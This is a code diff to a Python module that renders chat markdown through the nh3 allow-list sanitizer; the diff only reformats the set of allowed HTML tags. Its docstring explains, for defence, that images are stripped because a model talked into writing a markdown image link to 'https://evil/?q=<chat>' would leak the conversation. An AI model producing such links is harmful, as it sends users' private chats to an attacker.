@@ -6,6 +6,7 @@ allow-list sanitizer (nh3) so a parser bug cannot let a script through.
 Images are dropped: a model talked into writing `![](https://evil/?q=<chat>)`
 would otherwise leak the conversation from the reader's browser.
 """
+
 from functools import lru_cache
 
 import nh3
@@ -18,8 +19,33 @@ from pygments.util import ClassNotFound
 _FORMATTER = HtmlFormatter(nowrap=True)
 
 _ALLOWED_TAGS = {
-    "p", "br", "hr", "strong", "em", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li",
-    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "a", "span",
+    "p",
+    "br",
+    "hr",
+    "strong",
+    "em",
+    "del",
+    "s",
+    "code",
+    "pre",
+    "blockquote",
+    "ul",
+    "ol",
+    "li",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "table",
+    "thead",
+    "tbody",
+    "tr",
+    "th",
+    "td",
+    "a",
+    "span",
 }
 _ALLOWED_ATTRIBUTES = {
     "a": {"href", "title"},
